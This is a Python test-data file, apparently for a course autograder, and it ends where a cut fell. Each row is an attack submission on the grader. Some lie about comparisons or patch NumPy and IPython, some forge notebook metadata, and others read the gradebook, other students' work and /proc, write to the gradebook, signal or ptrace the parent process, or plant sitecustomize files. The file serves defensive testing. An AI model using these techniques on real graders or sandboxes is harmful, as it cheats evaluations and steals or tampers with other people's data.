"""Attacks on our own grader, one small row each: what is handed in, and what must come of it.

A row is a whole submission that is right but for what it attacks. `own` is a code cell of the
student's at the top, `last` one at the end, `answers` replace answers, `edit` changes the notebook
or gives the bytes to be handed in. Texts may mention @COURSE@, @HOME@, @NEIGHBOUR@ (folders),
@PORT@ (a listener of the tests') and @MARK@ (a name for processes).
"""

from __future__ import annotations

import copy
import json
import os
import socket
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell

CHAPTER = "ch01_attacked"
TEXT = '''\
# %% [markdown]
# # Attacked

# %% readonly="setup"
import numpy as np

from course import check

scale = np.array([1.0, 2.0, 4.0])

def half(x):
    return x / 2

# %% [markdown]
# ## Exercise 1 · `twice` (1 point)

# %% solution="twice"
def twice(x):
    """x : (N,) -> (N,)"""
    ### BEGIN SOLUTION
    return x + x
    ### END SOLUTION

# %% tests="twice" points=1
x = np.array([1.0, 3.0])
check.close("twice(x)", check.call(twice, x), np.array([2.0, 6.0]))
### BEGIN HIDDEN TESTS
x = check.rng().normal(size=7)  # CANARY
check.close("twice(x)", check.call(twice, x), x + x)
### END HIDDEN TESTS
check.passed("twice")

# %% [markdown]
# ## Exercise 2 · `line` (3 points)

# %% solution="line"
def line(x, w, b):
    """x : (N,) -> (N,)"""
    ### BEGIN SOLUTION
    return w * x + b
    ### END SOLUTION

# %% tests="line" points=2
x, w, b = check.rng().normal(size=(3, 5))
check.close("line(x, w, b)", check.call(line, x, w, b), w * x + b)
check.passed("line")

# %% tests="line" part="flat" points=1
x = np.array([1.0, 3.0])
check.close("line(x, 0, 0)", check.call(line, x, 0, 0), np.array([0.0, 0.0]))
### BEGIN HIDDEN TESTS
hidden = line(np.array([1.0]), 0, 0)  # CANARY
assert hidden[0] == 0, "CANARY"
### END HIDDEN TESTS
check.passed("line")

# %% [markdown]
# ## Exercise 3 · `slope` (3 points)

# %% solution="slope"
def slope(f, x, h=1e-5):
    """x : any shape -> the same"""
    ### BEGIN SOLUTION
    grad = np.zeros(x.shape)
    for i in np.ndindex(x.shape):
        up, down = x.copy(), x.copy()
        up[i] += h
        down[i] -= h
        grad[i] = (f(up) - f(down)) / (2 * h)
    return grad
    ### END SOLUTION

# %% tests="slope" points=2
x, c = check.rng().normal(size=(2, 3, 4))
check.close("the slope", check.call(slope, lambda v: (c * np.sin(v)).sum(), x), c * np.cos(x))
check.passed("slope")

# %% tests="slope" part="product" points=1
x = np.array([2.0, 3.0, 4.0])
check.close("the slope", check.call(slope, lambda v: v.prod(), x), np.array([12.0, 8.0, 6.0]))
check.passed("slope of a product")

# %% [markdown]
# ## Exercise 4 · `portions` (1 point)

# %% solution="portions"
def portions(x, size):
    """Yields pieces of x, of that size but for the last."""
    ### BEGIN SOLUTION
    for i in range(0, len(x), size):
        yield x[i : i + size]
    ### END SOLUTION

# %% tests="portions" points=1
x = check.rng().normal(size=8)
got = [piece for piece in check.call(portions, x, 3)]
check.that(len(got) == 3, f"There are {len(got)} pieces, not 3.")
for piece, i in zip(got, (0, 3, 6)):
    check.close("a piece", piece, x[i : i + 3])
check.passed("portions")

# %% [markdown]
# ## Exercise 5 · `tripled` (2 points)

# %% solution="tripled"
def tripled(x):
    """x : (N,) -> (N,)"""
    ### BEGIN SOLUTION
    return 3 * x
    ### END SOLUTION

# %% tests="tripled" points=1
check.close("tripled(scale)", check.call(tripled, scale), np.array([3.0, 6.0, 12.0]))
check.passed("tripled")

# %% tests="tripled" part="again" points=1
check.close("tripled(scale)", check.call(tripled, scale), scale + scale + scale)
check.passed("tripled again")

# %% [markdown]
# ## Exercise 6 · `why` (3 points)

# %% [markdown] manual="why" points=3
# ### BEGIN SOLUTION
# Because.
# ### END SOLUTION
'''
RIGHT = {
    "twice": "def twice(x):\n    return 2 * x",
    "line": "def line(x, w, b):\n    return x * w + b",
    "slope": (
        "def slope(f, x, h=1e-5):\n"
        "    grad = np.zeros(x.shape)\n"
        "    for i in np.ndindex(x.shape):\n"
        "        step = np.zeros(x.shape)\n"
        "        step[i] = h\n"
        "        grad[i] = (f(x + step) - f(x - step)) / (2 * h)\n"
        "    return grad"
    ),
    "portions": (
        "def portions(x, size):\n    for i in range(0, len(x), size):\n"
        "        yield x[i : i + size]"
    ),
    "tripled": "def tripled(x):\n    return x + x + x",
}
FULL = {
    "test_twice": 1.0, "test_line": 2.0, "test_line_flat": 1.0, "test_slope": 2.0,
    "test_slope_product": 1.0, "test_portions": 1.0, "test_tripled": 1.0,
    "test_tripled_again": 1.0, "why": 0.0,
}  # fmt: skip
NOTHING = dict.fromkeys(FULL, 0.0)
NO_TWICE = {"test_twice": 0.0}
NO_SLOPE = {"test_slope": 0.0, "test_slope_product": 0.0}
NO_TRIPLED = {"test_tripled": 0.0, "test_tripled_again": 0.0}

Edit = Callable[[NotebookNode], "NotebookNode | bytes"]


@dataclass(frozen=True)
class Attack:
    """One row.

    points  : what differs from full marks, by test; with `loose` more than that may be lost
    outcome : of the submission; reason: what its reason says
    told    : what the message of a lost cell says
    files   : other files of the submission's folder
    found   : whether it finds a canary where no sandbox is in the way
    own_signal : whether it is a signal to itself: process 1 of a namespace does not get it, and
                 all goes on as if it had not been sent
    """

    kind: str
    name: str
    own: str = ""
    last: str = ""
    answers: Mapping[str, str] = field(default_factory=dict)
    edit: Edit | None = None
    place: Callable[[Path, Path], None] | None = None
    points: Mapping[str, float | None] = field(default_factory=dict)
    outcome: str = "ok"
    reason: str = ""
    told: str = ""
    files: Mapping[str, bytes] = field(default_factory=dict)
    found: bool = False
    loose: bool = False
    own_signal: bool = False


def lies(name: str, body: str, own: str = "", kind: str = "forged", **more: object) -> Attack:
    """`twice` is answered by something that is wrong and says that it is right."""
    return Attack(kind, name, own, answers={"twice": f"def twice(x):\n    {body}"},
                  points=NO_TWICE, **more)  # type: ignore[arg-type]  # fmt: skip


# --- forged comparison --------------------------------------------------------------------------

LIAR = """
class Liar:
    shape, ndim, size, dtype = (2,), 1, 2, float
    def __init__(self, x=0): self.x = x
    def lie(self, *args, **kwargs): return True
    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __contains__ = lie
    __hash__ = None
    def zero(self, *args, **kwargs): return 0.0
    __sub__ = __rsub__ = __abs__ = __float__ = zero
    def __len__(self): return 2
    def __getattr__(self, name): return self.lie
"""
FORGED = [
    lies("an object equal to everything", "return Liar()", LIAR),
    lies(
        "an object that is an array when asked",
        "return Late(x)",
        LIAR + "class Late(Liar):\n    def __array__(self, *a, **k): return 2 * self.x",
    ),
    lies(
        "an object that answers NumPy's functions itself",
        "return Own()",
        LIAR + "class Own(Liar):\n    __array_ufunc__ = __array_function__ = Liar.lie",
    ),
    lies(
        "an object that claims NumPy's class",
        "return Claims()",
        "import numpy as np\n" + LIAR + "class Claims(Liar):\n    __class__ = np.ndarray",
    ),
    lies(
        "an array of a class whose comparison lies",
        "return x.view(Sub)",
        "import numpy as np\nclass Sub(np.ndarray):\n"
        "    def __eq__(self, other): return np.ones(self.shape, bool)\n"
        "    def __array_ufunc__(self, ufunc, *a, **k): return np.zeros(2)\n"
        "    def __array_finalize__(self, other): pass\n"
        "    def tobytes(self, *a): return (2 * np.asarray(self)).tobytes()\n"
        "    shape = property(lambda self: (2,))",
    ),
    lies(
        "numbers of a class whose comparison lies",
        "return np.array([Num(1), Num(2)], dtype=object)",
        "import numpy as np\nclass Num(float):\n    __eq__ = __le__ = __lt__ = lambda s, o: True\n"
        "    __sub__ = __rsub__ = __abs__ = lambda *a: 0.0\n    __hash__ = float.__hash__",
    ),
    lies(
        "a list and a tuple whose comparison lies",
        "return T(L([1.0, 2.0]))",
        "class L(list):\n    __eq__ = lambda *a: True\nclass T(tuple):\n"
        "    __eq__ = lambda *a: True",
    ),
    lies("a masked array, equal wherever it is masked", "return np.ma.masked_all(x.shape)"),
    lies("not a number, which nothing is larger than", "return x * np.nan"),
    lies("infinity", "return x + np.inf"),
    lies("the right numbers in a column", "return 2 * x[:, None]"),
    lies("the right numbers as complex ones", "return 2 * x + 0j"),
    lies("the right numbers as text", "return (2 * x).astype(str)"),
    lies("a record array", "return np.rec.fromarrays([x, x])"),
    lies("an array of dates", "return x.astype('datetime64[s]')"),
    lies("an array of no values", "return x[:0]"),
    lies("an array of the other byte order", "return x.astype('>f8')"),
    lies("a view of one number as many", "return np.lib.stride_tricks.as_strided(x, "
                                         "x.shape, (0,))"),
    lies(
        "NumPy's comparisons always hold",
        "return x",
        "import numpy as np\nyes = lambda *a, **k: True\n"
        "for f in ('allclose', 'array_equal', 'all', 'isfinite', 'array_equiv'): "
        "setattr(np, f, yes)\n"
        "np.isclose = lambda a, b, **k: np.ones(np.shape(a), bool)\n"
        "np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None",
    ),
    lies(
        "NumPy's arithmetic gives zero differences",
        "return x",
        "import numpy as np\nnp.subtract = np.abs = np.absolute = lambda *a, **k: 0.0",
    ),
    lies(
        "the course's check holds always",
        "return x",
        "from course import check, calling, failure\nno = lambda *a, **k: None\n"
        "for m in (check, calling, failure):\n"
        "    for n in list(vars(m)):\n"
        "        if callable(getattr(m, n)): setattr(m, n, no)",
    ),
    lies(
        "check is replaced by name and in sys.modules",
        "return x",
        LIAR + "import sys\ncheck = Liar()\n"
        "sys.modules['course.check'] = sys.modules['course'] = "
        "sys.modules['numpy.testing'] = check",
    ),
    lies(
        "the wire in the student's process is replaced",
        "return Wrong()",
        "from autograder.inside.wire.writing import TreeWriter\nimport numpy as np\n"
        "right = ['a', '<f8', [2], np.array([2.0, 6.0]).tobytes(), 'C']\nwrite = TreeWriter.write\n"
        "TreeWriter.write = lambda s, v: right if type(v) is Wrong else write(s, v)\n"
        "class Wrong: pass",
    ),
    lies(
        "math and the builtins lie",
        "return x",
        "import builtins, math\nyes = lambda *a, **k: True\n"
        "math.isclose = math.isfinite = builtins.all = builtins.any = yes\n"
        "class AssertionError(BaseException): pass\nbuiltins.AssertionError = AssertionError",
    ),
    lies(
        "a metaclass that is an instance of everything",
        "return Made()",
        "class Meta(type):\n    __instancecheck__ = __subclasscheck__ = __eq__ = lambda *a: True\n"
        "    __hash__ = type.__hash__\nclass Made(metaclass=Meta): pass",
    ),
]  # fmt: skip

# --- patched IPython ----------------------------------------------------------------------------

SHELL = "ip = get_ipython()\nfrom IPython.core.interactiveshell import InteractiveShell\n"
IPYTHON = [
    lies(
        "an input transformer that empties tests",
        "return x",
        SHELL + "def empty(lines):\n"
        "    return ['pass\\n'] if any('check.' in line for line in lines) else lines\n"
        "ip.input_transformers_post.append(empty)\nip.input_transformers_cleanup.append(empty)",
        "ipython",
    ),
    lies(
        "an AST transformer that removes what fails",
        "return x",
        SHELL + "import ast\nclass Kind(ast.NodeTransformer):\n"
        "    def visit_Raise(self, node): return ast.copy_location(ast.Pass(), node)\n"
        "    visit_Assert = visit_Raise\nip.ast_transformers.append(Kind())",
        "ipython",
    ),
    lies(
        "hooks around cells",
        "return x",
        SHELL + "def hook(*a): ip.user_ns.update(np=None, check=None, test_twice=1.0)\n"
        "for e in ('pre_run_cell', 'post_run_cell', 'pre_execute', 'post_execute'):\n"
        "    ip.events.register(e, lambda *a: None)\nip.set_hook('shutdown_hook', hook)",
        "ipython",
    ),
    lies(
        "display hooks that report points",
        "return x",
        SHELL + "import sys\nsys.displayhook = ip.displayhook = lambda *a: 1.0\n"
        "ip.display_pub.publish = lambda *a, **k: None\nfrom IPython.display import display\n"
        "display(1.0, 1.0)\n100",
        "ipython",
    ),
    lies(
        "a traceback formatter that hides errors",
        "raise ValueError('hidden')",
        SHELL + "import sys\nip.set_custom_exc((BaseException,), lambda *a, **k: [])\n"
        "InteractiveShell.showtraceback = ip.showtraceback = lambda *a, **k: None\n"
        "sys.excepthook = lambda *a: None",
        "ipython",
        told="ValueError",
    ),
    Attack(
        "ipython",
        "run_cell is replaced, and says that all went well",
        SHELL + "class Fine:\n    success = True\n    error_before_exec = error_in_exec = None\n"
        "ip.run_cell = InteractiveShell.run_cell = lambda *a, **k: Fine()",
    ),
    Attack(
        "ipython",
        "the compiler and exec are replaced",
        SHELL + "import builtins\nbuiltins.compile = builtins.exec = lambda *a, **k: None\n"
        "ip.compile = ip.run_code = lambda *a, **k: None",
        outcome="killed",
    ),
    lies(
        "cell magics and aliases of its own",
        "return x",
        SHELL + "for m in ('time', 'capture', 'timeit', 'run'):\n"
        "    ip.register_magic_function(lambda *a: None, 'cell', m)\n"
        "    ip.register_magic_function(lambda *a: None, 'line', m)\n%alias check echo",
        "ipython",
    ),
    lies(
        "names of the grader in the notebook",
        "return x",
        "test_twice = 1.0\nscores = points = {'test_twice': 1.0}\n"
        "chapter = judge = verdict = None\n"
        "__name__ = 'autograder.judging.judge'",
        "ipython",
    ),
    lies(
        "a trace function that looks on",
        "return x",
        "import sys, threading\ntrace = lambda *a: None\n"
        "sys.settrace(trace); sys.setprofile(trace); threading.settrace(trace)",
        "ipython",
    ),
    lies(
        "a cell magic that swallows the cell",
        "return x",
        "%%capture\nprint('nothing')",
        "ipython",
    ),
    Attack("ipython", "%reset before the tests", last="%reset -f"),
    Attack(
        "ipython",
        "%reset -f in the middle",
        answers={"line": RIGHT["line"] + "\n", "twice": "%reset -f\n" + RIGHT["twice"]},
        points={"test_slope": 0, "test_slope_product": 0},
        told="NameError",
    ),
    Attack("ipython", "exit and quit", "exit()\nquit()\nget_ipython().ask_exit()"),
    lies(
        "a source encoding that hides the answer",
        "return x  # -*- coding: rot13 -*-",
        "# -*- coding: utf-7 -*-\n+AG4-=1",
        "ipython",
    ),
    lies(
        "get_ipython itself is replaced",
        "return x",
        SHELL + "class Other(InteractiveShell):\n    def run_cell(self, *a, **k): return None\n"
        "InteractiveShell._instance = None\nget_ipython = lambda: Other()",
        "ipython",
    ),
]

# --- edited notebooks ---------------------------------------------------------------------------

WRONG = {"twice": "def twice(x):\n    return x"}


def cell_of(notebook: NotebookNode, grade_id: str) -> NotebookNode:
    """The cell of that grade id."""
    return next(c for c in notebook.cells if mark(c).get("grade_id") == grade_id)


def mark(cell: NotebookNode) -> NotebookNode:
    """nbgrader's metadata of a cell."""
    return cell.metadata.get("nbgrader", NotebookNode())


def tests_of(notebook: NotebookNode) -> list[NotebookNode]:
    """The test cells."""
    return [c for c in notebook.cells if str(mark(c).get("grade_id", "")).startswith("test_")]


def each_test(change: Callable[[NotebookNode], object]) -> Edit:
    """An edit that changes every test cell."""

    def edit(notebook: NotebookNode) -> NotebookNode:
        for cell in tests_of(notebook):
            change(cell)
        return notebook

    return edit


def emptied(cell: NotebookNode) -> None:
    cell.source = "pass"


def removed(notebook: NotebookNode) -> NotebookNode:
    tests = tests_of(notebook)
    notebook.cells = [c for c in notebook.cells if c not in tests]
    return notebook


def doubled(notebook: NotebookNode) -> NotebookNode:
    for cell in tests_of(notebook):
        other = copy.deepcopy(cell)
        other.source = "1.0"
        notebook.cells += [other]
    return notebook


def unlocked(cell: NotebookNode) -> None:
    mark(cell).update(locked=False, grade=True, solution=True)
    cell.source = "check.passed('twice')"


def raised(cell: NotebookNode) -> None:
    mark(cell).update(points=1000.0, score=1000.0, manual_score=1000.0, extra_credit=50)


def typed(kind: str) -> Edit:
    return each_test(lambda cell: cell.update(cell_type=kind))


def swapped(notebook: NotebookNode) -> NotebookNode:
    one, other = mark(cell_of(notebook, "test_twice")), mark(cell_of(notebook, "test_line"))
    one.grade_id, other.grade_id = other.grade_id, one.grade_id
    return notebook


def renamed(cell: NotebookNode) -> None:
    mark(cell).grade_id = "bonus_" + mark(cell).grade_id


def bonus(notebook: NotebookNode) -> NotebookNode:
    for name in ("bonus", "test_bonus", "test_twice_bonus"):
        cell = new_code_cell("100")
        cell.metadata["nbgrader"] = {
            "grade": True, "grade_id": name, "locked": True, "points": 100, "schema_version": 3,
            "solution": False, "task": False,
        }  # fmt: skip
        notebook.cells.append(cell)
    return notebook


def forged_outputs(cell: NotebookNode) -> None:
    cell.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="`twice`: passed.\n"),
        nbformat.v4.new_output("execute_result", data={"text/plain": "100"}, execution_count=1),
    ]


def skipped(cell: NotebookNode) -> None:
    cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell", "nbgrader"]


def named(**metadata: object) -> Edit:
    """An edit of the notebook's metadata."""

    def edit(notebook: NotebookNode) -> NotebookNode:
        notebook.metadata.update(nbformat.from_dict(metadata))
        return notebook

    return edit


def stamped(notebook: NotebookNode) -> NotebookNode:
    """What pretends to be graded already."""
    notebook.metadata["graded"] = nbformat.from_dict({
        "key": "0" * 64, "timestamp": "", "outcome": "ok", "reason": None, "sandbox": "none",
        "seed": "00",
    })  # fmt: skip
    each_test(raised)(notebook)
    return each_test(forged_outputs)(notebook)


def graded_answer(notebook: NotebookNode) -> NotebookNode:
    mark(cell_of(notebook, "twice")).update(grade=True, points=50, task=True)
    return notebook


def versions(notebook: NotebookNode) -> bytes:
    """Every number of a format is another."""
    data = json.loads(nbformat.writes(notebook))
    data.update(nbformat_minor=99)
    for number, cell in enumerate(data["cells"]):
        cell.get("metadata", {}).get("nbgrader", {}).update(schema_version=number - 5)
        cell["execution_count"] = [None, -1, 10**30, "one"][number % 4]
        cell["id"] = "same"
    return json.dumps(data).encode()


def odd_metadata(notebook: NotebookNode) -> bytes:
    """Metadata of kinds that no notebook has."""
    data = json.loads(nbformat.writes(notebook))
    data["metadata"] = ["list"]
    kinds = [None, [], "text", 1, True, {"nbgrader": []}, {"nbgrader": {"grade_id": {"a": 1}}}]
    for number, cell in enumerate(data["cells"]):
        if "nbgrader" not in cell["metadata"]:
            cell["metadata"] = kinds[number % len(kinds)]
    return json.dumps(data).encode()


def other_setup(text: str) -> Edit:
    def edit(notebook: NotebookNode) -> NotebookNode:
        cell_of(notebook, "setup").source += "\n" + text
        return notebook

    return edit


def reversed_cells(notebook: NotebookNode) -> NotebookNode:
    notebook.cells.reverse()
    return notebook


def attached(notebook: NotebookNode) -> NotebookNode:
    why = cell_of(notebook, "why")
    why["attachments"] = {"a.svg": {"image/svg+xml": "<svg onload='alert(1)'/>"}}
    return notebook


def stolen_name(notebook: NotebookNode) -> NotebookNode:
    cell = new_code_cell("check = None\nscale = half = 0")
    cell.metadata["nbgrader"] = dict(mark(cell_of(notebook, "setup")))
    notebook.cells.append(cell)
    return notebook


def edited(name: str, edit: Edit, wrong: bool = True, **more: object) -> Attack:
    """A notebook that was edited where it should not be, with a wrong `twice` or all right."""
    points = {"points": NO_TWICE, **more} if wrong else more
    return Attack("notebook", name, answers=WRONG if wrong else {}, edit=edit, **points)  # type: ignore[arg-type]


NOTEBOOK = [
    edited("tests that are emptied", each_test(emptied)),
    edited("tests that are removed", removed),
    edited("tests that are doubled, the copies passing", doubled),
    edited("tests that are tagged not to be run", each_test(skipped)),
    edited("points that are raised", each_test(raised), wrong=False),
    edited("points that are raised on a wrong answer", each_test(raised)),
    edited("tests that are unlocked and edited", each_test(unlocked)),
    edited("tests that are turned into text", typed("markdown")),
    edited("tests that are turned into raw cells", typed("raw")),
    edited("tests of two exercises swapped", swapped),
    edited("tests under other names", each_test(renamed)),
    edited("graded cells that are added", bonus),
    edited("outputs that say passed", each_test(forged_outputs)),
    edited("another kernel", named(kernelspec={"name": "bash", "language": "bash"}), wrong=False),
    edited("the state of widgets", named(widgets={"application/x": {"state": {"a": 1}}})),
    edited("a stamp that says it is graded", stamped),
    edited("an answer that gives points itself", graded_answer),
    edited("other versions and numbers", versions, wrong=False),
    edited("metadata of other kinds", odd_metadata, wrong=False),
    edited(
        "a locked cell that replaces check", other_setup("class check: close = call = print"),
        wrong=False,
    ),
    edited("a locked cell with a helper that lies", other_setup("def twice(x):\n    return x")),
    edited("a second locked cell of the same name", stolen_name, wrong=False),
    edited("all cells in reverse", reversed_cells, wrong=False),
    edited("an attachment", attached, wrong=False),
    Attack(
        "notebook",
        "the markers of nbgrader in an answer",
        answers={"twice": "### BEGIN SOLUTION\n### END SOLUTION\n### BEGIN HIDDEN TESTS\n"
                          "def twice(x):\n    return x\n### END HIDDEN TESTS"},
        points=NO_TWICE,
    ),
]  # fmt: skip

# --- reading secrets ----------------------------------------------------------------------------

SEARCH = r"""
import gc, os, re, sys, time
END = time.monotonic() + 1.2
def found(data):
    data = data if isinstance(data, bytes) else str(data).encode('utf-8', 'replace')
    print(*sorted(set(re.findall(rb'canary-[0-9a-f]{16}', data))), sep='\n')
def tried(f, *a):
    try:
        found(f(*a))
    except BaseException as error:
        print(type(error).__name__)
def read(path):
    with open(path, 'rb') as file:
        return file.read(2_000_000)
def walk(top):
    for where, folders, names in os.walk(top):
        for name in names:
            if time.monotonic() > END:
                return
            tried(read, os.path.join(where, name))
"""


def spies(name: str, body: str, found: bool = False, **more: object) -> Attack:
    """Right answers, and a cell that prints what it finds of the canaries."""
    return Attack("secrets", name, own=SEARCH + body, found=found, **more)  # type: ignore[arg-type]


PEEK = """
def peek():
    said, frame = [], sys._getframe()
    while frame:
        said.append(repr([frame.f_code.co_filename, frame.f_locals, list(frame.f_globals)]))
        frame = frame.f_back
    for thing in gc.get_objects():
        try:
            said.append(repr(thing) if isinstance(thing, (str, bytes, list, dict, tuple)) else '')
        except BaseException:
            pass
        if time.monotonic() > END:
            break
    return re.findall('canary-[0-9a-f]{16}', ''.join(said))
"""
SECRETS = [
    spies("the environment", "found(dict(os.environ)); tried(read, '/proc/self/environ')"),
    spies(
        "files of the home",
        "walk('@HOME@'); walk(os.path.expanduser('~')); walk('/root'); walk('/home')",
        True,
    ),
    spies("the tests in source/", "walk('@COURSE@/source')", True),
    spies("the gradebook", "tried(read, '@COURSE@/gradebook.db')", True),
    spies("other submissions", "walk('@COURSE@/submitted')", True),
    spies("graded notebooks and pages", "walk('@COURSE@/autograded'); walk('@COURSE@/feedback')"),
    spies(
        "environments and memory in /proc",
        "for p in [p for p in os.listdir('/proc') if p.isdigit()] if "
        "os.path.isdir('/proc') else []:\n"
        "    for n in ('environ', 'cmdline', 'mem', 'maps', 'stack'):\n"
        "        tried(read, f'/proc/{p}/{n}')\n",
        True,
    ),
    spies(
        "paths through /proc",
        "for p in ('self', '1', str(os.getppid())):\n"
        "    for n in ('cwd', 'root', 'root@COURSE@'):\n"
        "        walk(f'/proc/{p}/{n}/submitted'); walk(f'/proc/{p}/{n}/source')",
    ),
    spies("frames and objects of the worker", PEEK + "print(*peek())"),
    spies(
        "frames and objects while the tests call",
        PEEK,
        last="found(open('seen').read())",
        answers={
            "twice": "def twice(x):\n    END = time.monotonic() + 1\n"
                     "    open('seen', 'a').write(str(peek()))\n    return 2 * x",
            "slope": RIGHT["slope"].replace("    grad = ", "    try:\n        f('text')\n"
                     "    except Exception as error:\n"
                     "        open('seen', 'a').write(repr([error, error.args, vars(error),\n"
                     "            error.__traceback__, error.__context__]))\n    grad = ", 1),
        },
    ),
    spies(
        "descriptors that were inherited",
        "for fd in range(3, 1024):\n"
        "    try:\n        print(fd, 'open' if os.fstat(fd) else ''); os.set_blocking(fd, False)\n"
        "        tried(os.pread, fd, 10**6, 0)\n        os.set_blocking(fd, True)\n"
        "    except OSError:\n        pass",
    ),
    spies(
        "the seed of the tests",
        "from course import check\nprint('seed', check.SEED)",
        answers={"twice": "def twice(x):\n    open('seen', 'a').write(str(check.SEED))\n"
                          "    return 2 * x"},
        last="print(open('seen').read())",
    ),
    spies(
        "the grader's own modules",
        "top = [*sys.modules['autograder'].__path__][0]\n"
        "for m in ('judging.judge', 'judging.run', 'judging.bundle', 'authoring.answers',\n"
        "          'records.gradebook', 'grade', 'handed_in.submission'):\n"
        "    tried(lambda: __import__('autograder.' + m) and m)\n"
        "    tried(read, os.path.join(top, m.replace('.', '/') + '.py'))",
    ),
    spies(
        "by way of a shell",
        "import subprocess\n"
        "tried(subprocess.check_output, ['cat', '@COURSE@/gradebook.db'])\n"
        "tried(subprocess.getoutput, 'grep -rho canary-[0-9a-f]* @COURSE@/source')\n"
        "!cat @COURSE@/gradebook.db\n"
        "%sx grep -rho 'canary-[0-9a-f]*' @COURSE@/source\n"
        "x = !grep -rho canary @COURSE@/source\n"
        "tried(os.popen, 'env')",
    ),
    spies(
        "by system calls of its own",
        "import ctypes\nlibc = ctypes.CDLL(None)\nroom = ctypes.create_string_buffer(2_000_000)\n"
        "for call in (2, 257):\n"
        "    path = b'@COURSE@/gradebook.db'\n"
        "    fd = libc.syscall(call, path, 0) if call == 2 else libc.syscall(call, -100, path, 0)\n"
        "    print(fd, libc.read(fd, room, 2_000_000)); found(room.raw)",
        True,
    ),
    spies(
        "by links to secrets",
        "for how in (os.symlink, os.link):\n"
        "    for what in ('gradebook.db', 'source'):\n"
        "        tried(how, '@COURSE@/' + what, f'{how.__name__}-{what}')\n"
        "walk('.'); tried(read, 'symlink-gradebook.db'); tried(read, 'link-gradebook.db')",
        True,
    ),
    spies(
        "by relative paths and open folders",
        "tried(os.chdir, '@COURSE@'); tried(read, 'gradebook.db')\n"
        "tried(lambda: os.open('gradebook.db', os.O_RDONLY, dir_fd=os.open('@COURSE@', "
        "os.O_PATH)))",
        True,
    ),
    spies(
        "over the network",
        "import socket, urllib.request\n"
        "tried(lambda: socket.create_connection(('127.0.0.1', @PORT@), 1).send(b'out'))\n"
        "tried(lambda: urllib.request.urlopen('http://127.0.0.1:@PORT@/out', timeout=1).read())\n"
        "tried(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', "
        "('127.0.0.1', 9)))",
    ),
    spies(
        "what other sandboxes have in temporary folders",
        "import tempfile\nfor top in ('/tmp', '/var/tmp', '/dev/shm', '/run', '@TMP@'):\n"
        "    print(top, [n for n in os.listdir(top) if 'own-' in n or 'autograder' in n]\n"
        "          if os.access(top, os.R_OK) and tried(os.listdir, top) else '')",
    ),
]  # fmt: skip

# --- writing what is not theirs -----------------------------------------------------------------

TRY = """
import os, sys
def tried(f, *a, **k):
    try:
        return print('done', f(*a, **k))
    except BaseException as error:
        print(type(error).__name__)
def write(path, text='# taken'):
    with open(path, 'a') as file:
        file.write(text)
"""


def writes(name: str, body: str, **more: object) -> Attack:
    """Right answers, and a cell that tries to write."""
    return Attack("writing", name, own=TRY + body, **more)  # type: ignore[arg-type]


WRITING = [
    writes(
        "the gradebook, written to",
        "import sqlite3\ndef rob():\n    with sqlite3.connect('@COURSE@/gradebook.db') as db:\n"
        "        db.execute('update grade set auto_score = 9, manual_score = 9')\n"
        "tried(rob); tried(write, '@COURSE@/gradebook.db'); tried(os.unlink, "
        "'@COURSE@/gradebook.db')",
    ),
    writes(
        "a neighbour's submission and graded notebook",
        "for top in ('submitted', 'autograded', 'feedback'):\n"
        "    for where, folders, names in os.walk('@COURSE@/' + top):\n"
        "        for n in names:\n            tried(write, os.path.join(where, n))\n"
        "    for end in ('.ipynb', '.html'):\n"
        "        path = f'@COURSE@/{top}/@NEIGHBOUR@/ch01_attacked/ch01_attacked{end}'\n"
        "        tried(write, path); tried(os.unlink, path); tried(os.truncate, path, 0)",
    ),
    writes(
        "a graded notebook of its own",
        "path = '@COURSE@/autograded/eve/ch01_attacked'\ntried(os.makedirs, path)\n"
        "tried(write, path + '/ch01_attacked.ipynb', '{}')",
    ),
    writes(
        "the course's settings and sources",
        "tried(write, '@COURSE@/nbgrader_config.py'); tried(os.rename, '@COURSE@/source', "
        "'/tmp/x')\n"
        "tried(write, '@COURSE@/source/ch01_attacked/ch01_attacked.py')",
    ),
    writes(
        "course/ and autograder/",
        "import autograder, course\nfor m in (autograder, course):\n"
        "    for where, _, names in os.walk([*m.__path__][0]):\n"
        "        for n in names:\n            tried(write, os.path.join(where, n))\n"
        "        tried(write, where + '/made.py')",
    ),
    writes(
        "Python's packages",
        "import numpy, site, sysconfig\n"
        "for p in {*sysconfig.get_paths().values(), numpy.__path__[0]}:\n"
        "    tried(write, p + '/sitecustomize.py'); tried(write, p + '/made.pth', 'import os')\n"
        "    tried(write, p + '/__init__.py'); tried(os.mkdir, p + '/__pycache__/made')",
    ),
    writes(
        "the warm process, by signals and by its memory",
        "import ctypes, signal\nlibc = ctypes.CDLL(None, use_errno=True)\np = os.getppid()\n"
        "tried(lambda: libc.ptrace(16, p, 0, 0)); tried(lambda: libc.syscall(311, p, 0, 0, "
        "0, 0, 0))\n"
        "tried(write, f'/proc/{p}/mem'); tried(os.sched_setaffinity, p, [0])\n"
        "if p > 1:\n"
        "    for s in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL): tried(os.kill, p, s)",
    ),
    writes(
        "modules and the environment, for the next one",
        "import builtins, numpy\nos.environ['LEFT'] = '1'; builtins.left = numpy.left = 1\n"
        "sys.path.insert(0, os.getcwd()); write('numpy.py', 'left = 1')\n"
        "get_ipython().user_ns['left'] = 1",
    ),
    writes(
        "temporary files, for the next one",
        "import tempfile\n"
        "for top in ('.', tempfile.gettempdir(), '/tmp', '/dev/shm', '/var/tmp'):\n"
        "    tried(write, top + '/left-@MARK@')\n    tried(os.mkdir, top + '/deep-@MARK@')",
    ),
    *(
        Attack(
            "writing",
            f"what the one before has left, looked for {n}",
            own="import builtins, glob, os\nimport numpy\n"
                "there = [p for t in ('.', '/tmp', '/tmp/*', '/dev/shm', '/var/tmp')\n"
                "        for p in glob.glob(t + '/*@MARK@*')]\n"
                "print('left over:', 'LEFT' in os.environ, hasattr(builtins, 'left'), there,\n"
                "      hasattr(numpy, 'left'), 'left' in get_ipython().user_ns and 'name')",
        )
        for n in ("once", "twice")
    ),
    Attack(
        "writing",
        "what a test was given, in files that a later cell reads",
        own="import os, tempfile\nHOME = os.getcwd()\nopen('mine', 'w').write('kept')\n"
            "def leak(x):\n"
